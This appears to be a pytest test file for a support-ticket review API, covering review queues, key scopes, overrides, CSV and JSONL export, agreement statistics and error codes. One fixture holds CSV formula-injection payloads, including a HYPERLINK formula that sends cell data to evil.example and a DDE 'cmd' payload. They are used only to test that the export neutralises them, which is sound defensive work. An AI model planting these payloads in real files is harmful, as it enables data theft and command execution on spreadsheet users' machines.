"""Review API over the real app: predictions flow into the store; every status code."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from litestar.testing import TestClient
from sqlalchemy import create_engine, text

from serving.app import create_app
from serving.storage.settings import StorageSettings
from tests.api_keys import ENTRIES, PREDICT, REVIEW
from tests.serving_fakes import FakeModel, make_runtime

TICKETS = [
    {"subject": "Alt er nede", "body": "Produktionen står stille", "language": "da",
     "external_id": "ZD-1"},
    {"subject": "Laskun kopio", "body": "Voisitteko lähettää kopion?", "language": "fi",
     "external_id": "ZD-2", "customer": {"vip": True}},
    {"subject": "Vraag over factuur", "body": "Kleine vraag", "language": "nl",
     "external_id": "ZD-3"},
]  # fmt: skip


@pytest.fixture
def client(tmp_path: Path, sqlite_url: str) -> Iterator[TestClient[Any]]:
    runtime = make_runtime(
        tmp_path,
        model=FakeModel(),
        keys=ENTRIES,
        storage=StorageSettings(database_url=sqlite_url, redact_text_after_days=0),
    )
    with TestClient(create_app(runtime=runtime)) as test_client:
        test_client.app.state.db_url = sqlite_url
        yield test_client


def predict_all(client: TestClient[Any]) -> dict[str, str]:
    """Predict every ticket; returns external id -> prediction id."""
    ids = {}
    for ticket in TICKETS:
        response = client.post("/v1/predict", json=ticket, headers=PREDICT)
        assert response.status_code == 200, response.text
        ids[ticket["external_id"]] = response.json()["prediction_id"]
    return ids


def review(client: TestClient[Any], prediction_id: str, **body: Any) -> Any:
    return client.post(f"/v1/predictions/{prediction_id}/review", json=body, headers=REVIEW)


def test_every_prediction_is_stored_and_queued_most_urgent_first(
    client: TestClient[Any],
) -> None:
    ids = predict_all(client)
    response = client.get("/v1/reviews/queue", headers=REVIEW)
    assert response.status_code == 200
    body = response.json()
    assert body["pending"] == 3
    assert {item["prediction_id"] for item in body["items"]} == set(ids.values())
    first = body["items"][0]
    assert (first["external_id"], first["priority"], first["subject"]) == (
        "ZD-1",
        "urgent",
        "Alt er nede",
    )
    vip = client.get("/v1/reviews/queue?rule=vip", headers=REVIEW).json()
    assert [item["external_id"] for item in vip["items"]] == ["ZD-2"]
    danish = client.get("/v1/reviews/queue?language=da&level=urgent", headers=REVIEW).json()
    assert danish["pending"] == 1
    assert client.get("/v1/reviews/queue?model_version=9", headers=REVIEW).json()["pending"] == 0


@pytest.mark.parametrize(
    ("headers", "status"), [({}, 401), (PREDICT, 403), ({"Authorization": "Bearer nope"}, 401)]
)
def test_review_routes_need_a_review_scope_key(
    client: TestClient[Any], headers: dict[str, str], status: int
) -> None:
    for method, path in [
        ("GET", "/v1/reviews/queue"),
        ("GET", "/v1/reviews/export"),
        ("GET", "/v1/stats/agreement"),
        ("POST", "/v1/predictions/x/review"),
    ]:
        response = client.request(
            method, path, headers=headers, json={} if method == "POST" else None
        )
        assert response.status_code == status, (method, path, response.text)
        assert response.json()["status"] == status


def test_accept_is_201_a_repeat_returns_it_and_another_verdict_is_409_unless_forced(
    client: TestClient[Any],
) -> None:
    ids = predict_all(client)
    first = review(client, ids["ZD-1"], action="accept", note="ok")
    assert first.status_code == 201, first.text
    body = first.json()
    assert (body["action"], body["suggested_level"], body["final_level"], body["agent"]) == (
        "accept",
        "urgent",
        "urgent",
        "r",
    )
    repeated = review(client, ids["ZD-1"], action="accept")
    assert repeated.status_code == 201, repeated.text
    assert repeated.json()["review_id"] == body["review_id"]
    again = review(client, ids["ZD-1"], level="low", reason="spam")
    assert again.status_code == 409
    assert again.json()["error"] == "already_reviewed"
    assert "force=true" in again.json()["detail"]
    forced = review(client, ids["ZD-1"], level="low", reason="spam", force=True)
    assert forced.status_code == 201
    assert forced.json()["replaced_previous"] is True
    assert forced.json()["final_level"] == "low"


def test_a_review_records_the_key_that_sent_it_beside_the_agent_it_names(
    client: TestClient[Any],
) -> None:
    ids = predict_all(client)
    on_behalf = review(client, ids["ZD-1"], level="low", reason="spam", agent="bob")
    assert on_behalf.status_code == 201, on_behalf.text
    assert (on_behalf.json()["agent"], on_behalf.json()["key_id"]) == ("bob", "r")
    own = review(client, ids["ZD-2"], action="accept")
    assert (own.json()["agent"], own.json()["key_id"]) == ("r", "r")
    stored = review(client, ids["ZD-1"], level="low", reason="spam", agent="bob")  # read back
    assert (stored.json()["review_id"], stored.json()["key_id"]) == (
        on_behalf.json()["review_id"],
        "r",
    )


def test_unknown_prediction_is_404(client: TestClient[Any]) -> None:
    response = review(client, "0" * 32, action="accept")
    assert response.status_code == 404
    assert response.json()["error"] == "unknown_prediction"
    assert "does not exist" in response.json()["detail"]


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"level": "blocker", "reason": "vip"}, "level"),
        ({"level": "high", "reason": "because"}, "reason"),
        ({"level": "high"}, "reason"),
        ({"action": "override"}, "level"),
        ({"action": "maybe"}, "action"),
        ({"action": "accept", "colour": "red"}, "colour"),
    ],
)
def test_invalid_reviews_are_422_naming_the_field(
    client: TestClient[Any], body: dict[str, str], field: str | None
) -> None:
    ids = predict_all(client)
    response = review(client, ids["ZD-3"], **body)
    assert response.status_code == 422, response.text
    assert response.json().get("field") == field
    if field is None:
        assert "unknown field `colour`" in response.json()["detail"]
    assert client.get("/v1/reviews/queue", headers=REVIEW).json()["pending"] == 3


def test_a_201_review_is_committed_in_the_database(client: TestClient[Any]) -> None:
    ids = predict_all(client)
    assert review(client, ids["ZD-2"], level="urgent", reason="vip").status_code == 201
    engine = create_engine(client.app.state.db_url)
    with engine.connect() as connection:
        row = connection.execute(
            text("SELECT action, suggested_level, final_level, reason_code FROM reviews")
        ).one()
    engine.dispose()
    assert tuple(row) == ("override", "high", "urgent", "vip")


def test_export_streams_reviewed_tickets_as_csv_and_jsonl(client: TestClient[Any]) -> None:
    ids = predict_all(client)
    review(client, ids["ZD-1"], action="accept")
    review(client, ids["ZD-2"], level="urgent", reason="vip")
    response = client.get("/v1/reviews/export", headers=REVIEW)
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [(r["ticket_id"], r["priority"]) for r in rows] == [
        ("ZD-1", "urgent"),
        ("ZD-2", "urgent"),
    ]
    assert rows[1]["subject"] == "Laskun kopio"
    assert rows[1]["suggested_priority"] == "high"
    lines = client.get("/v1/reviews/export?format=jsonl", headers=REVIEW).text.splitlines()
    assert [json.loads(line)["review_action"] for line in lines] == ["accept", "override"]
    later = client.get(
        "/v1/reviews/export", params={"since": "2999-01-01T00:00:00Z"}, headers=REVIEW
    )
    assert later.text.strip().count("\n") == 0  # the header only
    # a plain date is its midnight (UTC): every review of today is after yesterday's date
    yesterday = (datetime.now(UTC) - timedelta(days=1)).date().isoformat()
    dated = client.get("/v1/reviews/export", params={"since": yesterday}, headers=REVIEW)
    assert dated.status_code == 200, dated.text
    assert dated.text.strip().count("\n") == 2  # the header and both reviews


FORMULAS = {
    "external_id": "=1+1",
    "subject": '=HYPERLINK("http://evil.example/?x="&A2,"click")',
    "body": "+cmd|' /C calc'!A0",
    "channel": "@SUM(1+1)",
    "stated_urgency": "\rCR",
    "customer": {"tier": "-2+3+cmd|x", "customer_id": "\tTAB"},
}


def test_the_csv_export_neutralises_formulas_and_jsonl_keeps_them(
    client: TestClient[Any],
) -> None:
    response = client.post("/v1/predict", json=FORMULAS, headers=PREDICT)
    assert response.status_code == 200, response.text
    review(client, response.json()["prediction_id"], action="accept")
    text = client.get("/v1/reviews/export", headers=REVIEW).text
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    cells = (row["ticket_id"], row["subject"], row["body"], row["channel"], row["tier"])
    assert cells == (
        "'=1+1",
        "'" + FORMULAS["subject"],
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)",
        "'-2+3+cmd|x",
    )
    assert (row["customer_id"], row["stated_urgency"]) == ("'\tTAB", "'\rCR")
    raw = json.loads(client.get("/v1/reviews/export?format=jsonl", headers=REVIEW).text)
    assert (raw["ticket_id"], raw["subject"], raw["tier"]) == (
        "=1+1",
        FORMULAS["subject"],
        "-2+3+cmd|x",
    )


def test_agreement_reports_rates_and_the_override_matrix(client: TestClient[Any]) -> None:
    ids = predict_all(client)
    review(client, ids["ZD-1"], action="accept")
    review(client, ids["ZD-2"], level="urgent", reason="vip")
    response = client.get("/v1/stats/agreement", headers=REVIEW)
    assert response.status_code == 200
    stats = response.json()
    assert stats["overall"] == {"key": "overall", "reviews": 2, "accepted": 1, "rate": 0.5}
    assert stats["override_matrix"]["high"]["urgent"] == 1
    assert stats["override_matrix"]["urgent"]["urgent"] == 1
    assert {s["key"]: s["rate"] for s in stats["per_language"]} == {"da": 1.0, "fi": 0.0}
    assert [s["key"] for s in stats["per_model_version"]] == ["1"]
    assert stats["levels"] == ["low", "medium", "high", "urgent"]
    assert stats["reasons"] == {"vip": 1}


def test_reason_codes_are_listed(client: TestClient[Any]) -> None:
    reasons = client.get("/v1/reviews/reasons", headers=REVIEW).json()
    assert {"code": "vip", "label": "VIP customer"} in reasons


@pytest.mark.parametrize(
    ("path", "field"),
    [
        ("/v1/reviews/queue?limit=0", "limit"),
        ("/v1/reviews/queue?offset=-1", "offset"),
        ("/v1/reviews/export?format=xml", "format"),
        ("/v1/reviews/export?since=yesterday", "since"),
        ("/v1/stats/agreement?until=not-a-time", "until"),
    ],
)
def test_bad_query_parameters_are_422_naming_the_parameter(
    client: TestClient[Any], path: str, field: str
) -> None:
    response = client.get(path, headers=REVIEW)
    assert response.status_code == 422, response.text
    body = response.json()
    assert (body["error"], body["field"]) == ("invalid_parameter", field)
    assert f"query parameter {field!r}" in body["detail"]


@pytest.mark.parametrize(
    ("path", "field", "hint"),
    [
        ("/v1/reviews/queue?offset=99999999999999999999", "offset", "1000000000"),
        ("/v1/reviews/queue?offset=1000000001", "offset", "1000000000"),
        ("/v1/stats/agreement?since=9999-12-31T23:59:59-23:59", "since", "0001-01-01"),
        ("/v1/stats/agreement?until=0001-01-01T00:00:00%2B23:59", "until", "9999-12-31"),
        ("/v1/reviews/export?since=0001-01-01T00:00:00%2B23:59", "since", "9999-12-31"),
    ],
)
def test_out_of_range_query_parameters_are_422_naming_the_parameter_and_the_range(
    client: TestClient[Any], path: str, field: str, hint: str
) -> None:
    response = client.get(path, headers=REVIEW)
    assert response.status_code == 422, response.text
    body = response.json()
    assert (body["error"], body["field"]) == ("invalid_parameter", field)
    assert hint in body["detail"]


def test_the_widest_valid_times_and_offset_are_answered(client: TestClient[Any]) -> None:
    for path in (
        "/v1/reviews/queue?offset=1000000000",
        "/v1/stats/agreement?since=0001-01-01&until=9999-12-31T23:59:59Z",
        "/v1/reviews/export?since=0001-01-01T00:00:00Z",
    ):
        assert client.get(path, headers=REVIEW).status_code == 200, path


def test_an_unencoded_plus_in_a_time_offset_is_read_as_plus(client: TestClient[Any]) -> None:
    ids = predict_all(client)
    review(client, ids["ZD-1"], action="accept")
    # A raw `+` in a query string arrives as a space: "...10:00:00 01:00".
    plain = client.get(
        "/v1/reviews/export?format=jsonl&since=2000-01-01T10:00:00+01:00", headers=REVIEW
    )
    assert plain.status_code == 200, plain.text
    assert len(plain.text.splitlines()) == 1
    later = client.get("/v1/stats/agreement?since=2999-01-01T10:00:00+01:00", headers=REVIEW)
    assert later.status_code == 200, later.text
    assert later.json()["overall"]["reviews"] == 0


def test_a_note_over_the_limit_is_422_naming_the_note(client: TestClient[Any]) -> None:
    ids = predict_all(client)
    response = review(client, ids["ZD-1"], action="accept", note="x" * 4001)
    assert response.status_code == 422
    assert response.json()["field"] == "note"
    assert "4000" in response.json()["detail"]


def test_a_nul_character_in_a_note_is_422_naming_the_note(client: TestClient[Any]) -> None:
    ids = predict_all(client)
    response = review(client, ids["ZD-1"], action="accept", note="a\u0000b")
    assert response.status_code == 422
    assert (response.json()["field"], response.json()["error"]) == ("note", "invalid_review")
    assert "NUL" in response.json()["detail"]


def test_malformed_json_is_400_and_stores_nothing(client: TestClient[Any]) -> None:
    ids = predict_all(client)
    response = client.post(
        f"/v1/predictions/{ids['ZD-1']}/review",
        content=b'{"action": "accept"',
        headers={**REVIEW, "content-type": "application/json"},
    )
    assert response.status_code == 400
    assert response.json()["error"] == "malformed_json"
    assert client.get("/v1/reviews/queue", headers=REVIEW).json()["pending"] == 3


def test_an_empty_review_body_is_400_empty_body_as_documented(client: TestClient[Any]) -> None:
    ids = predict_all(client)
    response = client.post(
        f"/v1/predictions/{ids['ZD-1']}/review",
        content=b"",
        headers={**REVIEW, "content-type": "application/json"},
    )
    assert response.status_code == 400, response.text
    assert response.json()["error"] == "empty_body"


def test_a_form_encoded_review_is_415_naming_json(client: TestClient[Any]) -> None:
    ids = predict_all(client)
    response = client.post(
        f"/v1/predictions/{ids['ZD-1']}/review", data={"action": "accept"}, headers=REVIEW
    )
    assert response.status_code == 415, response.text
    assert "Content-Type: application/json" in response.json()["detail"]


def test_a_review_nested_too_deeply_is_400_not_500(client: TestClient[Any]) -> None:
    ids = predict_all(client)
    response = client.post(
        f"/v1/predictions/{ids['ZD-1']}/review",
        content=b'{"note": ' + b"[" * 2000 + b"]" * 2000 + b"}",
        headers={**REVIEW, "content-type": "application/json"},
    )
    assert response.status_code == 400, response.text
    assert response.json()["error"] == "malformed_json"
    assert "nested too deeply" in response.json()["detail"]


def test_accepting_with_another_level_is_422_pointing_to_override(
    client: TestClient[Any],
) -> None:
    ids = predict_all(client)
    response = review(client, ids["ZD-1"], action="accept", level="low")
    assert response.status_code == 422
    assert response.json()["field"] == "level"
    assert "action=override" in response.json()["detail"]


def test_a_level_alias_is_accepted_and_stored_as_the_level(client: TestClient[Any]) -> None:
    ids = predict_all(client)
    response = review(client, ids["ZD-3"], level="P1", reason="vip")
    assert response.status_code == 201, response.text
    assert (response.json()["action"], response.json()["final_level"]) == ("override", "urgent")


def _documented(schema: dict[str, Any], method: str, path: str) -> dict[str, Any]:
    responses: dict[str, Any] = schema["paths"][path][method]["responses"]
    return responses


def test_openapi_documents_error_bodies_statuses_auth_and_file_types(
    client: TestClient[Any],
) -> None:
    schema = client.get("/schema/openapi.json").json()
    assert schema["components"]["securitySchemes"]["bearer"] == {
        "type": "http",
        "scheme": "bearer",
        "description": schema["components"]["securitySchemes"]["bearer"]["description"],
    }
    for path, operations in schema["paths"].items():
        for method, operation in operations.items():
            for status, response in operation["responses"].items():
                if status.startswith(("4", "5")):
                    content = response["content"]["application/json"]["schema"]
                    assert content == {"$ref": "#/components/schemas/ErrorOut"}, (path, status)
            if path.startswith("/v1/"):
                assert operation["security"][0]["bearer"], (method, path)
                assert {"401", "403", "500"} <= set(operation["responses"]), (method, path)
    export = _documented(schema, "get", "/v1/reviews/export")["200"]["content"]
    assert set(export) == {"text/csv", "application/x-ndjson"}
    metrics = _documented(schema, "get", "/metrics")["200"]["content"]
    assert [kind.split(";")[0] for kind in metrics] == ["text/plain"]
    # Statuses the routes really answer with are documented.
    ids = predict_all(client)
    answers = [
        ("post", "/v1/predict", client.post("/v1/predict", content=b"{", headers=PREDICT)),
        ("post", "/v1/predict", client.post("/v1/predict", json={"subject": 5}, headers=PREDICT)),
        ("post", "/v1/predict/batch", client.post("/v1/predict/batch", json={})),
        ("get", "/v1/reviews/queue", client.get("/v1/reviews/queue?limit=0", headers=REVIEW)),
        ("get", "/v1/reviews/export", client.get("/v1/reviews/export?since=x", headers=REVIEW)),
        ("post", "/v1/predictions/{prediction_id}/review", review(client, "nope")),
        ("post", "/v1/predictions/{prediction_id}/review", review(client, ids["ZD-1"], x=1)),
    ]
    for method, path, answer in answers:
        assert answer.status_code >= 400, answer.text
        assert str(answer.status_code) in _documented(schema, method, path), (path, answer.text)
        assert set(answer.json()) >= {"status", "error", "detail"}
